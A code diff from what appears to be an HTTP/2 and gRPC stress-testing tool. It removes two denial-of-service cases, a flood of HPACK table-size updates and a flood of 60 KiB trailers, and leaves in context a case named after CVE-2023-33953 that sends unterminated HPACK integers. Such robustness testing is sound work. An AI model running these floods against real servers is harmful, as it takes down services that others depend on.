@@ -17,7 +17,6 @@ import {
   repeat,
   Setting,
   shortCodeText,
-  tableSize,
 } from "../frames.ts";
 import { envelope, FILE, GREETER, HASH, lengthDelimited } from "../messages.ts";
 import { type Http2Options, Http2Wire, sleep, waitForEnd } from "../sockets.ts";
@@ -158,22 +157,6 @@ export const http2Headers: AttackGroup = {
       },
     },
     {
-      name: "table-size-updates",
-      title: "Updates of the table's size, two in each block and then hundreds",
-      run: (target) =>
-        floodBlocks(
-          target,
-          (id) =>
-            headers(
-              id,
-              join(repeat(tableSize(id % 100 < 90 ? 0 : 4096), id % 100 < 90 ? 1 : 300), callBlock(SAY_HELLO)),
-              {
-                endStream: true,
-              },
-            ),
-        ),
-    },
-    {
       name: "hpack-integers",
       title: "Integers of HPACK without an end, strings of 4 GiB (CVE-2023-33953)",
       run: (target) =>
@@ -241,18 +224,6 @@ export const http2Headers: AttackGroup = {
           }
         }
         await waitForEnd(target);
-      },
-    },
-    {
-      name: "trailer-flood",
-      title: "Requests that end with 60 KiB of trailers",
-      run: (target) => {
-        const trailers = join(...Array.from({ length: 14 }, (_, index) => field(`x-${index}`, "v".repeat(4000))));
-        return floodBlocks(
-          target,
-          (id) => join(headers(id, callBlock(`${HASH}/ShaStream`)), blockFrames(id, trailers, true)),
-          { perBurst: 4 },
-        );
       },
     },
     {
